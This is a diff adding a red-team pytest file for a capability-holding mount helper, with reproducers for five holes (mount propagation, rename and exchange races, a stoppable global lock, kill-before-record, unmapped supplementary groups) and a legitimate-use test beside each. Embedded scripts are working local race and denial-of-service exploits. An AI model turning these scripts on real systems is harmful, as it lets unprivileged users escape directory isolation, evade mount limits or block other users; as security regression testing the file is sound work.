@@ -1,0 +1,405 @@
+# SPDX-License-Identifier: GPL-2.0-or-later
+"""Red team of shiftfs-idmap-helper (issue 14): holes found by playing an
+ordinary host user (shiftfs-atk: no /etc/subuid range) against the
+capability-holding helper, each a reproducer that fails while the hole is
+open, and beside each the legitimate use that must keep working.
+
+- propagation: a helper mount is a peer of its source's mount, so a lazy
+  unmount of it takes down root's mounts below SRC, and a helper mount
+  made inside another one also appears below the first one's SRC;
+- relocation: the MNT checks hold only at mount time; renaming an
+  ancestor (or exchanging MNT during the call) moves the mount into
+  another user's tree or a system directory;
+- the state lock: one global flock that any caller can hold forever
+  (SIGSTOP), blocking every other user's helper;
+- the record is written after the mount is attached: SIGKILL in between
+  leaves mounts that count against no limit and that no one can unmount
+  through the helper;
+- unmapped supplementary groups: a user whose gid map can only be their
+  primary gid loses every group-deny (mode 0604 group G) on the mount.
+"""
+import grp
+import os
+import subprocess
+import textwrap
+import time
+
+import pytest
+
+from attack import ATTACKER, VICTIM, as_host_user
+from conftest import mountinfo, need
+from helper_util import (CONF, STATE, helper_bin, helper_tree, ids,  # noqa: F401
+                         mounts_under, policy, run_helper)
+
+
+@pytest.fixture
+def atk(helper_tree):
+    """shiftfs-atk's tree (root-owned 0755 root, user-owned top/src,mnt)
+    and its only possible maps: its own uid and primary gid."""
+    t = helper_tree(ATTACKER)
+    t.maps = ["--uidmap=%d:%d:1" % (t.uid, t.uid),
+              "--gidmap=%d:%d:1" % (t.gid, t.gid)]
+    return t
+
+
+def victim_dir(t, name, mode=0o1777):
+    """shiftfs-victim's world-writable (sticky) directory in t's root."""
+    p = os.path.join(t.root, name)
+    os.mkdir(p)
+    os.chmod(p, mode)
+    os.chown(p, *ids(VICTIM))
+    return p
+
+
+def mkdirs(user, *paths):
+    r = as_host_user(user, ["mkdir", "-p"] + list(paths))
+    assert r.returncode == 0, r.stderr
+
+
+def helper_mounts(t):
+    return [f for f in mountinfo() if f[4].startswith(t.root + "/")]
+
+
+# --- propagation ----------------------------------------------------------
+
+def test_lazy_unmount_does_not_take_down_roots_mount_below_src(helper_bin,
+                                                                atk):
+    """Root mounts a tmpfs on a directory inside the attacker's SRC after
+    the helper mount exists (an admin's lock-down mount, say). The helper
+    mount is a peer of SRC's mount, so the tmpfs also shows inside MNT, and
+    `umount --lazy MNT` through the helper propagates: root's tmpfs at
+    SRC/y is gone too. Must be refused, or leave root's mount alone."""
+    t = atk
+    y = os.path.join(t.src, "y")
+    mkdirs(ATTACKER, y)
+    r = run_helper(helper_bin, ATTACKER, ["mount"] + t.maps + [t.src, t.mnt])
+    assert r.returncode == 0, r.stderr
+    subprocess.run(["mount", "-t", "tmpfs", "red-admin", y], check=True)
+    u = run_helper(helper_bin, ATTACKER, ["umount", "--lazy", t.mnt])
+    assert y in mounts_under(t.root), (
+        "root's mount on %s was taken down by the caller's lazy unmount "
+        "(helper said rc=%d %r)" % (y, u.returncode, u.stderr))
+
+
+def test_lazy_unmount_does_not_detach_roots_mount_inside_mnt(helper_bin,
+                                                              atk):
+    """Root mounts a tmpfs inside the attacker's helper mount; a plain
+    unmount is refused (busy), --lazy detaches root's mount with it."""
+    t = atk
+    x = os.path.join(t.src, "x")
+    mkdirs(ATTACKER, x)
+    r = run_helper(helper_bin, ATTACKER, ["mount"] + t.maps + [t.src, t.mnt])
+    assert r.returncode == 0, r.stderr
+    inside = os.path.join(t.mnt, "x")
+    subprocess.run(["mount", "-t", "tmpfs", "red-admin", inside], check=True)
+    run_helper(helper_bin, ATTACKER, ["umount", "--lazy", t.mnt])
+    assert inside in mounts_under(t.root), (
+        "root's mount on %s was detached by the caller's lazy unmount"
+        % inside)
+
+
+def test_nested_helper_mount_does_not_propagate_into_victims_tree(
+        helper_bin, atk):
+    """SRC1 is the attacker's own directory inside shiftfs-victim's
+    world-writable one (allowed: a SRC may sit anywhere the caller can
+    reach). Mount SRC1 on MNT, then the attacker's src on MNT/sub: the
+    second mount also appears at SRC1/sub, in the victim's tree, where the
+    helper refuses to mount directly."""
+    t = atk
+    v = victim_dir(t, "victim")
+    src1 = os.path.join(v, "atkdir")
+    mkdirs(ATTACKER, os.path.join(src1, "sub"))
+    r = run_helper(helper_bin, ATTACKER, ["mount"] + t.maps + [src1, t.mnt])
+    assert r.returncode == 0, r.stderr
+    r = run_helper(helper_bin, ATTACKER, ["mount"] + t.maps + [
+        t.src, os.path.join(t.mnt, "sub")])
+    assert mounts_under(v) == [], (
+        "a helper mount appeared in shiftfs-victim's tree (rc=%d %r)"
+        % (r.returncode, r.stderr))
+
+
+def test_helper_mount_and_lazy_unmount_beside_propagation(helper_bin, atk):
+    """The legitimate use next to the propagation tests: mount, see SRC's
+    files, lazy-unmount, nothing left."""
+    t = atk
+    with open(os.path.join(t.src, "f"), "w") as f:
+        f.write("mine\n")
+    os.chown(os.path.join(t.src, "f"), t.uid, t.gid)
+    r = run_helper(helper_bin, ATTACKER, ["mount"] + t.maps + [t.src, t.mnt])
+    assert r.returncode == 0, r.stderr
+    c = as_host_user(ATTACKER, ["cat", os.path.join(t.mnt, "f")])
+    assert c.stdout == "mine\n", c.stderr
+    u = run_helper(helper_bin, ATTACKER, ["umount", "--lazy", t.mnt])
+    assert u.returncode == 0, u.stderr
+    assert mounts_under(t.root) == []
+
+
+# --- relocation -----------------------------------------------------------
+
+def test_mount_cannot_be_moved_into_victims_tree_by_renaming(helper_bin,
+                                                             atk):
+    """MNT = top/box/m: allowed, then the attacker renames box (in its own
+    top) into shiftfs-victim's 1777 directory: the mount moves with it,
+    into the victim's tree (where mounting directly is refused). Either
+    the helper refuses an MNT whose ancestors the caller can rename, or
+    the mount stays out of the victim's tree."""
+    t = atk
+    v = victim_dir(t, "victim")
+    box = os.path.join(t.top, "box")
+    mkdirs(ATTACKER, os.path.join(box, "m"))
+    r = run_helper(helper_bin, ATTACKER, ["mount"] + t.maps + [
+        t.src, os.path.join(box, "m")])
+    as_host_user(ATTACKER, ["mv", box, os.path.join(v, "box")])
+    assert mounts_under(v) == [], (
+        "the helper mount was moved into shiftfs-victim's tree (mount "
+        "rc=%d %r)" % (r.returncode, r.stderr))
+
+
+EXCHANGE = textwrap.dedent("""\
+    import ctypes, os, subprocess, sys, time
+    libc = ctypes.CDLL(None, use_errno=True)
+    helper, src, mine, theirs, secs = sys.argv[1:6]
+    maps = sys.argv[6:8]
+    end = time.time() + float(secs)
+    pid = os.fork()
+    if pid == 0:
+        while time.time() < end:
+            libc.renameat2(-100, mine.encode(), -100, theirs.encode(), 2)
+        os._exit(0)
+    def at(p):
+        return any(l.split()[4] == p for l in open("/proc/self/mountinfo"))
+    tries = 0
+    while time.time() < end:
+        tries += 1
+        r = subprocess.run([helper, "mount"] + maps + [src, mine],
+                           capture_output=True)
+        if r.returncode == 0:
+            if at(theirs):
+                print("LANDED", tries)
+                break
+            subprocess.run([helper, "umount", mine], capture_output=True)
+            subprocess.run([helper, "umount", theirs], capture_output=True)
+    os.waitpid(pid, 0)
+    print("tries", tries)
+    """)
+
+
+def test_mnt_exchanged_during_the_call_never_lands_in_victims_tree(
+        helper_bin, atk):
+    """The attacker's own directory at MNT is exchanged (RENAME_EXCHANGE)
+    with another directory of theirs inside shiftfs-victim's tree, in a
+    loop, while calling the helper (~5 s). The fd the helper checked moves
+    between the checks and move_mount: the mount lands in the victim's
+    tree (first try, here)."""
+    t = atk
+    v = victim_dir(t, "victim")
+    theirs = os.path.join(v, "n")
+    mkdirs(ATTACKER, theirs)
+    r = as_host_user(ATTACKER, ["/usr/bin/python3", "-c", EXCHANGE,
+                                helper_bin, t.src, t.mnt, theirs, "5"]
+                     + t.maps, timeout=60)
+    assert "LANDED" not in r.stdout and mounts_under(v) == [], (
+        "a helper mount landed in shiftfs-victim's tree: " + r.stdout)
+
+
+def test_mount_of_a_renamable_mnt_lands_where_asked(helper_bin, atk):
+    """Beside the relocation tests: the plain top/mnt layout mounts and
+    unmounts."""
+    t = atk
+    r = run_helper(helper_bin, ATTACKER, ["mount"] + t.maps + [t.src, t.mnt])
+    assert r.returncode == 0, r.stderr
+    assert mounts_under(t.root) == [t.mnt]
+    assert run_helper(helper_bin, ATTACKER,
+                      ["umount", t.mnt]).returncode == 0
+    assert mounts_under(t.root) == []
+
+
+# --- the state lock -------------------------------------------------------
+
+STOPPER = textwrap.dedent("""\
+    import os, signal, subprocess, sys, time
+    helper, src, mnt, hold = sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4])
+    maps = sys.argv[5:7]
+    def holds(pid):
+        with open("/proc/locks") as f:
+            return any(l.split()[1] == "FLOCK" and l.split()[4] == str(pid)
+                       for l in f)
+    end = time.time() + 5
+    while time.time() < end:
+        p = subprocess.Popen([helper, "mount"] + maps + [src, mnt],
+                             stdout=subprocess.DEVNULL,
+                             stderr=subprocess.DEVNULL)
+        while p.poll() is None:
+            if holds(p.pid):
+                os.kill(p.pid, signal.SIGSTOP)
+                print("STOPPED", flush=True)
+                time.sleep(hold)
+                os.kill(p.pid, signal.SIGKILL)
+                p.wait()
+                sys.exit(0)
+        subprocess.run([helper, "umount", mnt], capture_output=True)
+    print("never caught")
+    """)
+
+
+def test_a_stopped_helper_does_not_block_other_users(helper_bin, atk,
+                                                     helper_tree):
+    """The attacker SIGSTOPs its own helper while /proc/locks shows it
+    holding the state directory's flock (its uid is the helper's real uid,
+    so it may signal it). Another user's mount must still complete: it
+    hangs in flock for as long as the attacker likes."""
+    t = atk
+    other = helper_tree("shiftfs-test")
+    ou, og = ids("shiftfs-test")
+    s = subprocess.Popen(["runuser", "-u", ATTACKER, "--", "/usr/bin/python3",
+                          "-c", STOPPER, helper_bin, t.src, t.mnt, "8"]
+                         + t.maps, stdout=subprocess.PIPE, text=True)
+    try:
+        line = s.stdout.readline()
+        need("STOPPED" in line, "the attacker never caught the lock: " + line)
+        t0 = time.monotonic()
+        try:
+            r = subprocess.run([
+                "runuser", "-u", "shiftfs-test", "--", helper_bin, "mount",
+                "--uidmap=%d:%d:1" % (ou, ou), "--gidmap=%d:%d:1" % (og, og),
+                other.src, other.mnt], capture_output=True, text=True,
+                timeout=5)
+            took = time.monotonic() - t0
+        except subprocess.TimeoutExpired:
+            r, took = None, time.monotonic() - t0
+        assert r is not None and r.returncode == 0, (
+            "shiftfs-test's mount blocked %.1f s behind the attacker's "
+            "stopped helper" % took)
+    finally:
+        s.wait(timeout=30)
+
+
+# --- the record -----------------------------------------------------------
+
+KILLER = textwrap.dedent("""\
+    import os, signal, subprocess, sys, time
+    helper, src, top, want = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
+    maps = sys.argv[5:7]
+    def holds(pid):
+        with open("/proc/locks") as f:
+            return any(l.split()[1] == "FLOCK" and l.split()[4] == str(pid)
+                       for l in f)
+    def mounted(m):
+        return any(l.split()[4] == m for l in open("/proc/self/mountinfo"))
+    end = time.time() + 6
+    made = i = 0
+    while made < want and time.time() < end:
+        m = os.path.join(top, "k%d" % i)
+        i += 1
+        os.mkdir(m)
+        p = subprocess.Popen([helper, "mount"] + maps + [src, m],
+                             stdout=subprocess.DEVNULL,
+                             stderr=subprocess.DEVNULL)
+        while p.poll() is None and not holds(p.pid):
+            pass
+        try:
+            os.kill(p.pid, signal.SIGSTOP)
+            while not mounted(m) and p.poll() is None:
+                os.kill(p.pid, signal.SIGCONT)
+                os.kill(p.pid, signal.SIGSTOP)
+            os.kill(p.pid, signal.SIGKILL)
+        except ProcessLookupError:
+            pass  # it finished first: that round is lost
+        p.wait()
+        made += mounted(m)
+    print("mounts", made, "attempts", i)
+    """)
+
+
+def test_killed_helper_leaves_no_unrecorded_mount(helper_bin, atk, policy):
+    """max-mounts = 2. The attacker stops each helper once it holds the
+    lock, single-steps it (SIGCONT/SIGSTOP) until its mount shows in
+    mountinfo, and SIGKILLs it before the record is saved: here 6 mounts
+    in ~1 s, none recorded, none removable through the helper, no syslog
+    line. Every mount the attacker holds must count and be theirs to
+    unmount."""
+    t = atk
+    policy("max-mounts = 2\n")
+    k = os.path.join(t.top, "k")
+    mkdirs(ATTACKER, k)
+    r = as_host_user(ATTACKER, ["/usr/bin/python3", "-c", KILLER, helper_bin,
+                                t.src, k, "6"] + t.maps, timeout=60)
+    assert r.returncode == 0, r.stderr
+    held = mounts_under(t.root)
+    stuck = [m for m in held if run_helper(
+        helper_bin, ATTACKER, ["umount", m]).returncode != 0]
+    assert len(held) <= 2 and stuck == [], (
+        "%s; %d mounts over max-mounts = 2, %d the helper will not unmount "
+        "for their owner" % (r.stdout.strip(), len(held), len(stuck)))
+
+
+def test_mounts_up_to_the_limit_beside_the_kill(helper_bin, atk, policy):
+    t = atk
+    policy("max-mounts = 2\n")
+    for name in ("a", "b", "c"):
+        mkdirs(ATTACKER, os.path.join(t.top, name))
+    for name in ("a", "b"):
+        r = run_helper(helper_bin, ATTACKER, ["mount"] + t.maps + [
+            t.src, os.path.join(t.top, name)])
+        assert r.returncode == 0, r.stderr
+    r = run_helper(helper_bin, ATTACKER, ["mount"] + t.maps + [
+        t.src, os.path.join(t.top, "c")])
+    assert r.returncode == 1 and "max-mounts = 2 in %s" % CONF in r.stderr
+    for name in ("a", "b"):
+        assert run_helper(helper_bin, ATTACKER, [
+            "umount", os.path.join(t.top, name)]).returncode == 0
+    assert mounts_under(t.root) == []
+    assert not os.path.exists(os.path.join(STATE, str(t.uid)))
+
+
+# --- groups ---------------------------------------------------------------
+
+@pytest.fixture
+def banned_group():
+    """A group with shiftfs-atk as a supplementary member, removed after."""
+    name = "red-banned-%d" % os.getpid()
+    subprocess.run(["groupadd", name], check=True)
+    try:
+        subprocess.run(["usermod", "-aG", name, ATTACKER], check=True)
+        yield grp.getgrnam(name).gr_gid
+    finally:
+        subprocess.run(["gpasswd", "-d", ATTACKER, name],
+                       capture_output=True)
+        subprocess.run(["groupdel", name], capture_output=True)
+
+
+def test_group_deny_survives_a_helper_mount(helper_bin, atk, banned_group):
+    """A file in the attacker's directory, shiftfs-victim's, group G
+    (which shiftfs-atk is in), mode 0604: everyone but G may read it, and
+    the attacker cannot natively. The attacker has no /etc/subgid range,
+    so its gid map is its primary gid only and G is unmapped on the mount:
+    the file shows as nogroup and 'other' applies: readable. newgidmap
+    denies setgroups for exactly this map (CVE-2018-7169)."""
+    t = atk
+    p = os.path.join(t.src, "notice")
+    with open(p, "w") as f:
+        f.write("not for group G\n")
+    os.chown(p, ids(VICTIM)[0], banned_group)
+    os.chmod(p, 0o604)
+    native = as_host_user(ATTACKER, ["cat", p])
+    assert native.returncode != 0 and "Permission denied" in native.stderr
+    r = run_helper(helper_bin, ATTACKER, ["mount"] + t.maps + [t.src, t.mnt])
+    if r.returncode == 0:
+        via = as_host_user(ATTACKER, ["cat", os.path.join(t.mnt, "notice")])
+        assert via.returncode != 0 and via.stdout == "", (
+            "read through the helper mount what group G may not: %r"
+            % via.stdout)
+
+
+def test_own_files_readable_beside_the_group_test(helper_bin, atk,
+                                                  banned_group):
+    t = atk
+    p = os.path.join(t.src, "mine")
+    with open(p, "w") as f:
+        f.write("mine\n")
+    os.chown(p, t.uid, banned_group)
+    os.chmod(p, 0o640)
+    r = run_helper(helper_bin, ATTACKER, ["mount"] + t.maps + [t.src, t.mnt])
+    assert r.returncode == 0, r.stderr
+    c = as_host_user(ATTACKER, ["cat", os.path.join(t.mnt, "mine")])
+    assert c.returncode == 0 and c.stdout == "mine\n", c.stderr
